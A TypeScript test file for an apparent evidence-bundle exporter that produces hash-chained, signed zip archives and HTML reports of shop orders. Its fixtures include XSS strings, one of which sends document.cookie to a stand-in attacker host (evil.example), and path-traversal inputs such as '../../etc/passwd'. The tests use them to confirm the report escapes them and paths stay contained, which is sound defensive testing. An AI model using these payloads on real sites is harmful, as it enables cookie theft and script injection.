// @vitest-environment node
import { unzipSync } from 'fflate';
import { Window } from 'happy-dom';
import { describe, expect, it } from 'vitest';
import { openDb, type KamiGuardDb } from '@/lib/db/database';
import type { OrderRecord } from '@/lib/db/types';
import { buildBundle, evidencePath, orderDir, safeSegment } from '@/lib/evidence/bundle';
import { collectAllBundleOrders, collectBundleOrder } from '@/lib/evidence/bundle-data';
import { appendEventsChained, readAnchor } from '@/lib/db/timeline';
import { addBuyerOrder } from '@/lib/db/orders';
import { sha256Hex } from '@/lib/hash';
import type { BundleManifest, ManifestSignatureFile } from '@/lib/evidence/manifest';
import { createManifestSigner, getSigningKey, verifyManifestSignature } from '@/lib/evidence/signing';
import { addEvidence } from '@/lib/evidence/store';

const HOSTILE_TITLE = '"><img src=x onerror=alert(1)><script>alert("title")</script>';
const HOSTILE_PRODUCT = '<script>alert(1)</script>QQ会员';
const HOSTILE_STATUS = '</td><iframe src="https://evil.example/"></iframe>';
const HOSTILE_DRAFT = '</pre><script>fetch("https://evil.example/?"+document.cookie)</script>';
const decoder = new TextDecoder();

async function seed(db: KamiGuardDb, orderNo = 'T20240501123', site = 'shop.example.com'): Promise<number> {
  const order: OrderRecord = {
    platform: 'dujiaoka',
    orderNo,
    productName: HOSTILE_PRODUCT,
    amount: 29.9,
    currency: 'CNY',
    status: 'processing',
    statusText: HOSTILE_STATUS,
    cardKeys: ['ABCD-EFGH-IJKL-MNOP'],
    site,
    url: `https://${site}/order/${orderNo}`,
    urls: [`https://${site}/order/${orderNo}`],
    pageTitle: HOSTILE_TITLE,
    firstSeenAt: 1_714_536_000_000,
    lastSeenAt: 1_714_536_600_000,
  };
  const orderId = (await db.orders.add(order)) as number;
  await appendEventsChained(db, [
    { orderId, kind: 'first_seen', at: 1_714_536_000_000, status: 'paid', statusText: HOSTILE_STATUS },
  ]);
  const png = new Uint8Array([
    0x89,
    0x50,
    0x4e,
    0x47,
    0x0d,
    0x0a,
    0x1a,
    0x0a,
    ...crypto.getRandomValues(new Uint8Array(4000)),
  ]);
  await addEvidence(db, {
    orderId,
    kind: 'order_page',
    source: 'auto',
    bytes: png,
    mime: 'image/png',
    url: order.url,
    pageTitle: HOSTILE_TITLE,
    capturedAt: 1_714_536_000_500,
    note: HOSTILE_TITLE,
  });
  await appendEventsChained(db, [
    { orderId, kind: 'status_changed', at: 1_714_536_600_000, status: 'processing', previousStatus: 'paid' },
  ]);
  await addEvidence(db, {
    orderId,
    kind: 'order_text',
    source: 'auto',
    bytes: JSON.stringify({ visibleText: HOSTILE_STATUS }),
    mime: 'application/json',
    url: order.url,
    capturedAt: 1_714_536_600_500,
  });
  return orderId;
}

function unzip(bytes: Uint8Array): Record<string, Uint8Array> {
  return unzipSync(bytes);
}

function manifestOf(files: Record<string, Uint8Array>): BundleManifest {
  return JSON.parse(decoder.decode(files['manifest.json'])) as BundleManifest;
}

describe('buildBundle', () => {
  it('writes evidence files, manifest and report whose hashes all match', async () => {
    const db = openDb('test-' + crypto.randomUUID());
    const orderId = await seed(db);
    const input = await collectBundleOrder(db, orderId, [
      { channel: '支付宝', title: HOSTILE_TITLE, body: HOSTILE_DRAFT },
    ]);
    const zip = await buildBundle({ orders: [input], generatedAt: 1_714_540_000_000 });
    const files = unzip(zip);
    const manifest = manifestOf(files);

    expect(manifest).toMatchObject({ format: 'kamiguard-evidence-bundle', version: 1, hashAlgorithm: 'SHA-256' });
    expect(manifest.generatedAt).toBe('2024-05-01T05:06:40.000Z');
    const names = Object.keys(files).sort();
    expect(names).toEqual([...manifest.files.map((f) => f.path), 'manifest.json'].sort());
    for (const file of manifest.files) {
      expect(await sha256Hex(files[file.path]!), file.path).toBe(file.sha256);
      expect(files[file.path]!.length).toBe(file.size);
    }

    const [order] = manifest.orders;
    expect(order!.dir).toBe('orders/shop.example.com_T20240501123');
    expect(order!.chain.verification).toMatchObject({ ok: true, count: 4 });
    expect(order!.chain.head).toBe((await readAnchor(db, input.order))!.head);
    expect(order!.events.map((e) => e.seq)).toEqual([0, 2]);
    expect(order!.evidence.map((e) => e.seq)).toEqual([1, 3]);
    for (const item of order!.evidence) {
      expect(item.file).toBe('ok');
      expect(item.path).toMatch(
        /^orders\/shop\.example\.com_T20240501123\/evidence\/00[12]-order_(page|text)-[0-9a-f]{12}\.(png|json)$/,
      );
      expect(await sha256Hex(files[item.path!]!)).toBe(item.record.sha256);
      expect(item.record).toMatchObject({ kind: expect.any(String), source: 'auto', url: expect.any(String) });
      expect(item.record.size).toBe(files[item.path!]!.length);
    }
    expect(order!.checklist.find((c) => c.id === 'order_screenshot')).toMatchObject({ present: true });
    expect(order!.checklist.find((c) => c.id === 'payment_receipt')).toMatchObject({ present: false });
    // Card keys are the goods: masked unless asked for.
    expect(order!.order.cardKeys).toEqual(['ABCD************']);
    for (const name of ['manifest.json', 'report.html']) expect(decoder.decode(files[name])).not.toContain('EFGH-IJKL');
    expect(decoder.decode(files['report.html'])).toContain('ABCD****');
  });

  it('lets a third party recompute every chain hash from the manifest alone', async () => {
    const db = openDb('test-' + crypto.randomUUID());
    const orderId = await seed(db);
    const manifest = manifestOf(
      unzip(await buildBundle({ orders: [await collectBundleOrder(db, orderId)], generatedAt: 0 })),
    );
    const order = manifest.orders[0]!;
    const entries = [...order.events, ...order.evidence].sort((a, b) => a.seq - b.seq);
    const canonical = (v: unknown): string =>
      Array.isArray(v)
        ? `[${v.map(canonical).join(',')}]`
        : v && typeof v === 'object'
          ? `{${Object.keys(v)
              .sort()
              .map((k) => `${JSON.stringify(k)}:${canonical((v as Record<string, unknown>)[k])}`)
              .join(',')}}`
          : JSON.stringify(v);
    let prev = order.chain.genesis;
    expect(
      await sha256Hex(
        `kamiguard-chain-v1\ngenesis\n${canonical({ orderNo: order.order.orderNo, site: order.order.site })}`,
      ),
    ).toBe(prev);
    for (const entry of entries) {
      expect(entry.record.prevHash).toBe(prev);
      expect(await sha256Hex(`kamiguard-chain-v1\n${entry.type}\n${canonical(entry.record)}`)).toBe(entry.hash);
      prev = entry.hash!;
    }
    expect(prev).toBe(order.chain.head);
  });

  it('renders a self-contained report in which hostile page text stays text', async () => {
    const db = openDb('test-' + crypto.randomUUID());
    const orderId = await seed(db);
    const input = await collectBundleOrder(db, orderId, [{ channel: '<b>12315</b>', body: HOSTILE_DRAFT }]);
    const report = decoder.decode(unzip(await buildBundle({ orders: [input], generatedAt: 0 }))['report.html']);

    expect(report.startsWith('<!doctype html>')).toBe(true);
    expect(report).toMatch(/<meta charset="utf-8" ?\/?>/);
    expect(report).toContain("default-src 'none'");
    expect(report).toContain('@media print');
    expect(report).toContain('证据报告');

    const window = new Window();
    const doc = new window.DOMParser().parseFromString(report, 'text/html');
    expect(doc.querySelectorAll('script, iframe, object, embed, link, base, meta[http-equiv="refresh"]')).toHaveLength(
      0,
    );
    for (const element of doc.querySelectorAll('*')) {
      for (const attr of element.getAttributeNames())
        expect(attr.startsWith('on'), `${element.tagName} ${attr}`).toBe(false);
    }
    const images = [...doc.querySelectorAll('img')];
    expect(images).toHaveLength(1);
    for (const img of images) expect(img.getAttribute('src')).toMatch(/^data:image\/png;base64,/);
    for (const a of doc.querySelectorAll('a[href]')) expect(a.getAttribute('href')).toMatch(/^(#|orders\/)/);
    // The hostile strings are there, as text.
    const text = doc.body.textContent ?? '';
    for (const hostile of [HOSTILE_TITLE, HOSTILE_PRODUCT, HOSTILE_STATUS, HOSTILE_DRAFT, '<b>12315</b>']) {
      expect(text).toContain(hostile);
    }
    await window.happyDOM.close();
  });

  it('reports a tampered chain, a missing file and a file that no longer matches its hash', async () => {
    const db = openDb('test-' + crypto.randomUUID());
    const orderId = await seed(db);
    const [image, text] = await db.evidence.orderBy('id').toArray();
    await db.events.where('kind').equals('status_changed').modify({ status: 'delivered' });
    await db.blobs.delete(image!.sha256);
    await db.blobs.put({ sha256: text!.sha256, data: new Blob(['{"forged":true}']) });

    const files = unzip(await buildBundle({ orders: [await collectBundleOrder(db, orderId)], generatedAt: 0 }));
    const order = manifestOf(files).orders[0]!;
    expect(order.chain.verification).toMatchObject({ ok: false, reason: 'modified', brokenAt: 2 });
    expect(order.evidence.map((e) => e.file)).toEqual(['missing', 'hash_mismatch']);
    expect(order.evidence[1]!.fileSha256).toBe(await sha256Hex('{"forged":true}'));
    const report = decoder.decode(files['report.html']);
    expect(report).toContain('哈希链异常');
    expect(report).toContain('文件缺失');
    expect(report).toContain('文件哈希不一致');
  });

  it('reports progress up to the total, for all orders at once', async () => {
    const db = openDb('test-' + crypto.randomUUID());
    await seed(db, 'A-1');
    await seed(db, 'A-2', 'other.example.net');
    const calls: [number, number][] = [];
    const zip = await buildBundle({
      orders: await collectAllBundleOrders(db),
      generatedAt: 0,
      onProgress: (done, total) => calls.push([done, total]),
    });
    expect(calls.map(([done]) => done)).toEqual([1, 2, 3, 4, 5, 6]);
    expect(calls.every(([, total]) => total === 6)).toBe(true);
    expect(manifestOf(unzip(zip)).orders.map((o) => o.dir)).toEqual([
      'orders/shop.example.com_A-1',
      'orders/other.example.net_A-2',
    ]);
  });

  it('signs manifest.json with the per-install key, and the signature catches a changed manifest', async () => {
    const db = openDb('test-' + crypto.randomUUID());
    const orderId = await seed(db);
    const files = unzip(
      await buildBundle({
        orders: [await collectBundleOrder(db, orderId)],
        generatedAt: 0,
        sign: createManifestSigner(db),
      }),
    );
    const sig = JSON.parse(decoder.decode(files['manifest.sig.json'])) as ManifestSignatureFile;
    expect(sig).toMatchObject({
      format: 'kamiguard-manifest-signature',
      alg: 'ECDSA-P256-SHA256',
      file: 'manifest.json',
    });
    expect(sig.publicKeyJwk).not.toHaveProperty('d');
    expect(await verifyManifestSignature(files['manifest.json']!, sig)).toBe(true);
    const changed = files['manifest.json']!.slice();
    changed[changed.length - 3] = changed[changed.length - 3]! ^ 1;
    expect(await verifyManifestSignature(changed, sig)).toBe(false);

    const key = await getSigningKey(db);
    expect(key.privateKey.extractable).toBe(false);
    expect(key.publicKeyJwk).toEqual(sig.publicKeyJwk);
    expect((await getSigningKey(db)).fingerprint).toBe(key.fingerprint);
    await expect(crypto.subtle.exportKey('jwk', key.privateKey)).rejects.toThrow();
  });
});

describe('bundle paths', () => {
  it('never lets page text escape its folder', () => {
    const taken = new Set<string>();
    expect(orderDir({ site: '../..', orderNo: '../../etc/passwd' }, taken)).toBe('orders/x_etc_passwd');
    expect(orderDir({ site: '../..', orderNo: '../../etc/passwd' }, taken)).toBe('orders/x_etc_passwd-2');
    expect(safeSegment('订单 №1/2\\3')).toBe('1_2_3');
    expect(evidencePath('orders/a_b', 7, { kind: 'support_chat', sha256: 'f'.repeat(64), mime: 'image/webp' })).toBe(
      'orders/a_b/evidence/007-support_chat-ffffffffffff.webp',
    );
    expect(evidencePath('d', 1, { kind: 'other', sha256: '0'.repeat(64), mime: 'text/html; charset=utf-8' })).toMatch(
      /\.html\.txt$/,
    );
  });
});

describe('an order the buyer entered by hand', () => {
  it('is marked so in manifest.json and in report.html, and a page-read order is not', async () => {
    const db = openDb(`bundle-buyer-${crypto.randomUUID()}`);
    try {
      const { orderId } = await addBuyerOrder(
        db,
        {
          site: 'gone-shop.example',
          url: 'https://gone-shop.example/',
          orderNo: 'HAND0001',
          amount: 98,
          currency: 'CNY',
          paidAt: '2026-12-01T09:30:00+08:00',
        },
        Date.parse('2026-12-02T10:00:00+08:00'),
      );
      const pageId = await seed(db);
      await db.orders.update(pageId, { entry: 'page' });
      const files = unzip(
        await buildBundle({
          orders: [await collectBundleOrder(db, orderId), await collectBundleOrder(db, pageId)],
          generatedAt: 0,
        }),
      );
      const manifest = manifestOf(files);
      expect(manifest.orders.map((o) => o.order.entry)).toEqual(['buyer', 'page']);
      expect(manifest.orders[0]!.events[0]!.record).toMatchObject({ kind: 'first_seen', detail: 'buyer' });

      const doc = new Window().document;
      doc.write(decoder.decode(files['report.html']));
      const sections = [...doc.querySelectorAll('section.order')];
      expect(sections[0]!.textContent).toContain('买家手动录入（依据付款记录，非从订单页读取）');
      expect(sections[0]!.textContent).toContain('entered by the buyer by hand');
      expect(sections[1]!.textContent).not.toContain('手动录入');
      expect(sections[1]!.textContent).toContain('从商店订单页读取');
      // The summary at the top marks it too.
      expect(doc.querySelector('header tbody tr')!.textContent).toContain('手动录入');
    } finally {
      await db.delete();
    }
  });
});
